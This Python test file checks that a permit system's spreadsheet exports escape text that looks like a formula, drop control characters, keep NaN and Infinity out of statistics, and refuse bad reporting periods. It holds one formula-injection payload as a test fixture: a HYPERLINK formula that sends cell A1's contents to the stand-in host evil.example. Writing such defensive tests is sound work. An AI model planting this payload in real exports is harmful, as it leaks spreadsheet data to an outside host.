"""Spreadsheet exports are safe to open: text a spreadsheet would run as a formula is escaped by
one helper, characters the format forbids are dropped, and statistics never hold NaN or Infinity
(read back with openpyxl)."""

from __future__ import annotations

import io
import math

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from engine.models import Item, ItemVersion
from engine.service import start_case
from rules.reports import Row, safe_cell, to_excel

from .conftest import As
from .helpers import do
from .webhelpers import login

FOOD = "015309300002"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"])
def test_formula_like_text_is_escaped(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["阳光县市场监督管理局", "食品经营许可·材料审查", 3, 0.25, None, "1-2"])
def test_ordinary_values_pass_unchanged(value):
    assert safe_cell(value) == value


def test_forbidden_characters_nan_and_infinity_never_reach_the_file(tmp_path):
    row = Row("x", "名称\x01\x08带控制字符", cases=2, finished=1, on_time=1)
    row.days = [float("inf"), 3]
    path = tmp_path / "out.xlsx"
    to_excel([row, Row("y", HOSTILE, cases=1)], "2026年=统计", path)
    sheet = load_workbook(path).active
    cells = {c.coordinate: c for r in sheet.iter_rows() for c in r}
    assert cells["A3"].value == "名称带控制字符" and cells["A4"].value == "'" + HOSTILE
    assert all(c.data_type != "f" for c in cells.values())
    numbers = [c.value for c in cells.values() if isinstance(c.value, (int, float))]
    assert numbers and all(math.isfinite(v) for v in numbers)
    assert cells["F3"].value == 3  # average days: the infinite entry left out
    assert row.average_days == 3.0 and Row("z", "空").on_time_rate is None  # nothing to divide by: "—"


def test_the_performance_export_escapes_an_item_named_like_a_formula(client, run, database, frozen_clock, company):
    with database.transaction() as s:
        version_id = s.scalars(select(Item).where(Item.code == FOOD)).one().current_version_id
        name = s.get(ItemVersion, version_id).name
        s.execute(update(ItemVersion).where(ItemVersion.id == version_id).values(name=HOSTILE))
    try:
        case = run(start_case, FOOD, company, As("sc001"), data={"prepackaged_only": False})
        do(run, database, case.id, As("sc001"), "accept")
        login(client, "jw001")
        response = client.get("/supervision/performance.xlsx?period=2026Q3&by=step")
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.data)).active
        labels = [r[0] for r in sheet.iter_rows(min_row=3)]
        assert labels and all(c.data_type == "s" for c in labels)
        assert [c.value for c in labels] == ["'" + HOSTILE + "·受理"]
        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
    finally:
        with database.transaction() as s:
            s.execute(update(ItemVersion).where(ItemVersion.id == version_id).values(name=name))


@pytest.mark.parametrize("period", ["2026Q9", "9" * 40, "2026-13", "0000", "2026Q" + "3" * 30])
def test_a_bad_period_is_a_chinese_refusal(client, database, period):
    login(client, "jw001")
    response = client.get(f"/supervision/performance.xlsx?period={period}")
    assert response.status_code == 422 and "统计期格式应为" in response.get_data(as_text=True)
